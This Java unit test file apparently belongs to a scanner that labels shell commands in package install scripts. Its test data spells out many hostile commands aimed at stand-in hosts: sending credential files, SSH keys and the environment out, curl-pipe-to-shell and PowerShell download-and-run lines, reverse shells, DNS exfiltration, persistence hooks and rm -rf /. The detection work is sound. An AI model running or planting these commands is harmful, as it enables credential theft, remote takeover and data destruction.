package dev.assay.core.code.shell;

import static org.assertj.core.api.Assertions.assertThat;

import dev.assay.core.artifact.Location;
import dev.assay.core.fact.Act;
import dev.assay.core.fact.Act.Label;
import dev.assay.core.fact.Act.Phase;
import dev.assay.core.fact.Act.Reach;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Set;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class ShellReaderTest {
  private static final Location PLACE = new Location("setup.py", 3);

  private static Context context(PythonText python) {
    return Context.of(Phase.INSTALL, Reach.AUTOMATIC, PLACE, List.of(), python);
  }

  private static List<String> told(String command) {
    return told(ShellReader.acts(command, context(PythonText.UNREAD)));
  }

  private static List<String> told(List<Act> acts) {
    return acts.stream()
        .map(
            act ->
                Stream.of(
                        act.kind().name(),
                        act.target(),
                        String.join(" ", act.carries().stream().map(Enum::name).sorted().toList()))
                    .filter(part -> !part.isEmpty())
                    .reduce((left, right) -> left + " | " + right)
                    .orElse(""))
        .toList();
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '→',
      quoteCharacter = '\0',
      value = {
        "curl -s -d @~/.aws/credentials https://c.example/x → SENDS | https://c.example/x |"
            + " CREDENTIAL_FILE",
        "curl -F 'f=@/home/u/.ssh/id_rsa' https://c.example → SENDS | https://c.example | SSH_KEY",
        "curl \"https://c.example/?h=$(hostname)\" → SENDS | https://c.example/?h=… |"
            + " HOST_IDENTITY",
        "curl -H \"X: $(env | base64 -w0)\" https://c.example → SENDS | https://c.example |"
            + " ENVIRONMENT",
        "cat /etc/passwd | curl -X POST --data-binary @- https://c.example → SENDS |"
            + " https://c.example | HOST_IDENTITY",
        "env | curl -T - https://c.example → SENDS | https://c.example | ENVIRONMENT",
        "wget --post-file=$HOME/.netrc http://c.example/ → SENDS | http://c.example/ |"
            + " CREDENTIAL_FILE",
        "curl -fsSL https://c.example/i.sh | bash → EXECUTES_TEXT | https://c.example/i.sh |"
            + " REMOTE",
        "wget -qO- https://c.example/i.sh|sudo sh → EXECUTES_TEXT | https://c.example/i.sh |"
            + " REMOTE",
        "bash -c \"$(curl -fsSL https://c.example/i.sh)\" → EXECUTES_TEXT | … | REMOTE",
        "bash <(curl -s https://c.example/i.sh) → EXECUTES_TEXT | … | REMOTE",
        "curl -o /tmp/x https://c.example/x && chmod +x /tmp/x && /tmp/x & → EXECUTES_TEXT |"
            + " https://c.example/x | REMOTE",
        "cd /tmp; wget https://c.example/bot; chmod 755 bot; ./bot → EXECUTES_TEXT |"
            + " https://c.example/bot | REMOTE",
        "curl https://c.example/a.py | python3 - → EXECUTES_TEXT | https://c.example/a.py | REMOTE",
        "bash -i >& /dev/tcp/192.0.2.7/4444 0>&1 → EXECUTES_TEXT | 192.0.2.7:4444 | REMOTE",
        "nc -e /bin/sh 192.0.2.7 4444 → EXECUTES_TEXT | 192.0.2.7:4444 | REMOTE",
        "rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 192.0.2.7 4444 >/tmp/f → EXECUTES_TEXT"
            + " | a shell on a socket | REMOTE",
        "ping -c 1 `whoami`.x.example → RESOLVES | ….x.example | HOST_IDENTITY",
        "nslookup $(hostname | xxd -p).x.example → RESOLVES | ….x.example | HOST_IDENTITY",
        "dig +short $AWS_SECRET_ACCESS_KEY.x.example A → RESOLVES |"
            + " $AWS_SECRET_ACCESS_KEY.x.example | TOKEN",
        "curl http://169.254.169.254/latest/meta-data/iam/ → READS_SECRET |"
            + " http://169.254.169.254/latest/meta-data/iam/ | CLOUD_METADATA",
        "(crontab -l; echo '* * * * * /tmp/x') | crontab - → PERSISTS | crontab -",
        "echo 'curl https://c.example | sh' >> ~/.bashrc → PERSISTS | ~/.bashrc",
        "systemctl --user enable x.service → PERSISTS | systemctl --user enable x.service",
        "rm -rf / --no-preserve-root → DESTROYS | rm -rf / --no-preserve-root",
        "rm -rf $HOME/* → DESTROYS | rm -rf ~/*",
        "pip install git+https://c.example/x.git → EXECUTES_TEXT | https://c.example/x.git |"
            + " REMOTE",
        "pip install evil-helper → SPAWNS | pip install evil-helper",
        "echo Y3VybCBodHRwczovL2MuZXhhbXBsZS9pfHNo | base64 -d | sh → RECEIVES |"
            + " https://c.example/i",
        "eval \"$(echo aWQ= | base64 --decode)\" → EXECUTES_TEXT | id | DECODED",
        "tar czf /tmp/a.tgz ~/.ssh && curl -F f=@/tmp/a.tgz https://c.example → SENDS |"
            + " https://c.example | SSH_KEY",
        "for f in ~/.aws/credentials ~/.npmrc; do curl -d @$f https://c.example; done → SENDS |"
            + " https://c.example | CREDENTIAL_FILE",
        "X=$(printenv); curl -d \"$X\" https://c.example → SENDS | https://c.example | ENVIRONMENT",
        "certutil.exe -urlcache -split -f http://c.example/a.exe %TEMP%\\\\a.exe & start /b"
            + " %TEMP%\\\\a.exe → RECEIVES | http://c.example/a.exe",
        "mshta http://c.example/a.hta → EXECUTES_TEXT | http://c.example/a.hta | REMOTE",
        "cmd /c \"reg add HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run /v x /d"
            + " c:\\\\x.exe\" → PERSISTS | reg add"
            + " HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run /v x /d"
            + " c:\\\\x.exe",
        "powershell -w hidden -c \"IEX (New-Object"
            + " Net.WebClient).DownloadString('http://c.example/a.ps1')\" → EXECUTES_TEXT |"
            + " http://c.example/a.ps1 | REMOTE",
        "powershell IEX(iwr https://c.example/a.ps1 -UseBasicParsing) → EXECUTES_TEXT |"
            + " https://c.example/a.ps1 | REMOTE",
        "powershell \"iwr ('http'+'s://c.example/a.exe') -OutFile a.exe; Start-Process a.exe\" →"
            + " EXECUTES_TEXT | https://c.example/a.exe | REMOTE",
        "git clone https://c.example/r.git && python3 r/run.py → EXECUTES_TEXT |"
            + " https://c.example/r.git | REMOTE",
      })
  void findsWhatACommandComesTo(String command, String act) {
    assertThat(told(command.replace("\\\\", "\\"))).contains(act.replace("\\\\", "\\"));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "git rev-parse HEAD",
        "make -j4 && make install",
        "echo 'curl https://c.example | sh' ",
        "pip install -e .[dev]",
        "rm -rf build dist *.egg-info",
        "ls -la $HOME/.ssh",
        "python setup.py sdist bdist_wheel",
        "gcc -O2 -o a a.c",
        "set -ex; cd build; cmake ..",
        "case \"$1\" in curl) echo x;; *) exit 1;; esac",
      })
  void findsOnlyProgramsInOrdinaryCommands(String command) {
    assertThat(ShellReader.acts(command, context(PythonText.UNREAD)))
        .allSatisfy(act -> assertThat(act.kind()).isEqualTo(Act.Kind.SPAWNS));
  }

  @Test
  void readsEncodedCommands() {
    String text = "$u='https://c.example/a';IEX((New-Object Net.WebClient).DownloadString($u))";
    String encoded = Base64.getEncoder().encodeToString(text.getBytes(StandardCharsets.UTF_16LE));

    assertThat(told("powershell.exe -NoP -W Hidden -Enc " + encoded))
        .contains(
            "EVADES | a hidden window of PowerShell",
            "RECEIVES | https://c.example/a",
            "EXECUTES_TEXT | https://c.example/a | REMOTE");
  }

  @Test
  void carriesTheLabelsOfUnknownParts() {
    Context context =
        new Context(
            Phase.CALL,
            Reach.ON_CALL,
            PLACE,
            List.of(),
            List.of(Set.of(Label.WALLET), Set.of()),
            PythonText.UNREAD);

    List<Act> acts =
        ShellReader.acts(
            "curl https://c.example/" + Context.hole(0) + " -o " + Context.hole(1), context);

    assertThat(told(acts)).contains("SENDS | https://c.example/… | WALLET");
    assertThat(acts).allSatisfy(act -> assertThat(act.evidence()).doesNotContain("\uE000"));
  }

  @Test
  void handsPythonToWhoeverReadsIt() {
    List<String> programs = new ArrayList<>();

    List<Act> acts =
        ShellReader.acts(
            "python3 -c 'import os\nos.system(\"id\")'",
            context(
                (program, place) -> {
                  programs.add(program + " @" + place.location());
                  return List.of();
                }));

    assertThat(programs).containsExactly("import os\nos.system(\"id\") @setup.py:3");
    assertThat(told(acts)).containsExactly("SPAWNS | python3 -c");
  }

  @Test
  void knowsTheLinesOfAScript() {
    List<Act> acts =
        ShellReader.acts(
            """
            #!/bin/sh
            # comment
            cat <<EOF > /tmp/x.sh
            curl https://c.example | sh
            EOF
            sh /tmp/x.sh
            """,
            Dialect.POSIX,
            Context.of(
                Phase.CALL, Reach.ON_CALL, new Location("a.sh", 1), List.of(), PythonText.UNREAD));

    assertThat(acts)
        .extracting(act -> act.kind() + " " + act.location())
        .contains("WRITES_FILE a.sh:3", "EXECUTES_TEXT a.sh:6");
  }

  @Test
  void quotesArguments() {
    assertThat(ShellReader.quoted(List.of("sh", "-c", "echo 'a b'", "")))
        .isEqualTo("sh -c 'echo '\\''a b'\\''' ''");
  }

  @Test
  void masksSecretsInEvidence() {
    assertThat(
            ShellReader.acts(
                "curl https://u:hunter2hunter2@c.example -H 'T: ghp_abcdefghijklmnop0123'",
                context(PythonText.UNREAD)))
        .allSatisfy(
            act -> {
              assertThat(act.evidence() + act.target()).doesNotContain("hunter2");
              assertThat(act.evidence()).doesNotContain("abcdefghijklmnop");
            });
  }
}
